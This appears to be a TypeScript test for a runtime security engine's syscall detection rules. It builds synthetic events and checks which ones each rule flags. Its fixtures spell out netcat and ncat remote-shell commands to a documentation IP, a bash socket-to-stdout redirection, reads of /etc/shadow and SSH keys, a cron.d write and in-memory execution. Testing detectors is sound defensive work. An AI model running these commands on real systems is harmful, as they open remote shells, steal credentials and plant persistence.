/**
 * Vigil's bundled syscall pack (rules/vigil-syscall.yaml) on events built as the sensor builds
 * them: for every rule, events that must raise it and look-alikes that must not.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import path from 'node:path';
import { Engine } from '../../../src/engine/engine.ts';
import { defaultTables } from '../../../src/engine/tables.ts';
import type { Rec } from '../../../src/sources/syscall/decode.ts';
import { projectRoot } from '../../helpers.ts';
import { connect, dup, exec, fork, newState, open, socket } from './records.ts';

const PACK = path.join(projectRoot, 'rules', 'vigil-syscall.yaml');
const CID = 'beef' + '12'.repeat(30);

const shellUnder = (parent: string, opts: { container?: boolean; tty?: number } = {}): Rec[] => {
  const p = { pid: 100, ppid: 1 };
  const c = opts.container ? { cgroups: [CID] } : {};
  return [...exec(p, [parent], { filename: `/opt/vt/${parent}`, ...c }), fork(p, 101),
    ...exec({ pid: 101, ppid: 100 }, ['sh', '-c', 'id'], { filename: '/opt/vt/sh', ...c, ...(opts.tty !== undefined ? { tty: opts.tty } : {}) })];
};
const run = (argv: string[], extra: (p: { pid: number; ppid: number }) => Rec[] = () => [], opts: { container?: boolean; exeName?: string; nlink?: number; filename?: string } = {}): Rec[] => {
  const p = { pid: 200, ppid: 1 };
  return [...exec(p, argv, { filename: opts.filename ?? `/opt/vt/${argv[0]}`, ...(opts.container ? { cgroups: [CID] } : {}),
    ...(opts.exeName ? { exeName: opts.exeName } : {}), ...(opts.nlink !== undefined ? { nlink: opts.nlink } : {}) }), ...extra(p)];
};

const CASES: Array<{ name: string; fire: string[]; records: () => Rec[] }> = [
  { name: 'shell with a terminal in a container', fire: ['Vigil Shell In Container With Terminal'], records: () => shellUnder('runc', { container: true, tty: 2 }) },
  { name: 'near miss: shell without a terminal in a container', fire: [], records: () => shellUnder('runc', { container: true }) },
  { name: 'near miss: shell with a terminal on the host', fire: [], records: () => shellUnder('sshd', { tty: 2 }) },
  { name: 'nginx starts a shell', fire: ['Vigil Shell Started By Network Service'], records: () => shellUnder('nginx') },
  { name: 'node starts a shell in a container', fire: ['Vigil Shell Started By Network Service'], records: () => shellUnder('node', { container: true }) },
  { name: 'near miss: make starts a shell', fire: [], records: () => shellUnder('make') },
  { name: 'python reads /etc/shadow', fire: ['Vigil Credential File Read'], records: () => run(['python3', 'x.py'], (p) => [open(p, 3, '/etc/shadow')]) },
  { name: 'cat reads an SSH key', fire: ['Vigil Credential File Read'], records: () => run(['cat', '/home/alice/.ssh/id_ed25519'], (p) => [open(p, 3, '/home/alice/.ssh/id_ed25519')]) },
  { name: 'near miss: sshd reads its host key', fire: [], records: () => run(['sshd'], (p) => [open(p, 3, '/etc/ssh/ssh_host_ed25519_key')]) },
  { name: 'near miss: cat reads /etc/passwd', fire: [], records: () => run(['cat', '/etc/passwd'], (p) => [open(p, 3, '/etc/passwd')]) },
  {
    name: 'bash puts a socket on stdout', fire: ['Vigil Standard Stream Redirected To Socket'],
    records: () => run(['bash'], (p) => [socket(p, 3), connect(p, 0, 3, '198.51.100.7', 9001, '10.0.0.4', 40000), dup(p, 'dup2', 1, 3, 1)]),
  },
  {
    name: 'near miss: socat does it on purpose', fire: [],
    records: () => run(['socat'], (p) => [socket(p, 3), connect(p, 0, 3, '198.51.100.7', 9001, '10.0.0.4', 40000), dup(p, 'dup2', 1, 3, 1)]),
  },
  { name: 'ncat --sh-exec', fire: ['Vigil Netcat Runs Commands'], records: () => run(['ncat', '--sh-exec', 'sh', '198.51.100.7', '9001']) },
  { name: 'busybox nc -e', fire: ['Vigil Netcat Runs Commands'], records: () => run(['nc', '198.51.100.7', '9001', '-e', 'sh']) },
  { name: 'near miss: nc -z', fire: [], records: () => run(['nc', '-z', '198.51.100.7', '22']) },
  { name: 'echo into /etc/cron.d', fire: ['Vigil Write Below Etc'], records: () => run(['tee', '/etc/cron.d/x'], (p) => [open(p, 3, '/etc/cron.d/x', 0o1101)]) },
  { name: 'near miss: dpkg writes below /etc', fire: [], records: () => run(['dpkg'], (p) => [open(p, 3, '/etc/apt/sources.list', 0o1101)]) },
  { name: 'near miss: resolv.conf rewritten', fire: [], records: () => run(['dhclient-script'], (p) => [open(p, 3, '/etc/resolv.conf', 0o1101)]) },
  { name: 'near miss: reading /etc/hosts', fire: [], records: () => run(['curl'], (p) => [open(p, 3, '/etc/hosts')]) },
  { name: 'a program run from a memfd', fire: ['Vigil Program Run From Memory'], records: () => run(['x'], undefined, { filename: '/proc/self/fd/4', exeName: 'memfd:x', nlink: 0 }) },
  { name: 'a program run from /dev/shm', fire: ['Vigil Program Run From Shared Memory'], records: () => run(['/dev/shm/.x'], undefined, { filename: '/dev/shm/.x' }) },
  { name: 'near miss: a program run from /usr/bin', fire: [], records: () => run(['ls'], undefined, { filename: '/usr/bin/ls' }) },
];

test('vigil-syscall pack: loads cleanly, and each rule fires on its cases only', () => {
  const engine = new Engine({ tables: defaultTables(), ruleMatching: 'all' });
  const res = engine.loadFiles([PACK]);
  assert.ok(res.ok);
  assert.deepEqual(res.diagnostics.filter((d) => d.severity === 'warning').map((d) => d.message), []);
  const rules = engine.allRules.map((r) => r.name);
  const covered = new Set(CASES.flatMap((c) => c.fire));
  assert.deepEqual(rules.filter((r) => !covered.has(r)), [], 'every rule has a case');
  for (const c of CASES) {
    const s = newState();
    const fired = new Set<string>();
    for (const ev of s.apply(c.records())) for (const a of engine.process(ev)) fired.add(a.rule);
    assert.deepEqual([...fired].sort(), [...c.fire].sort(), c.name);
  }
});
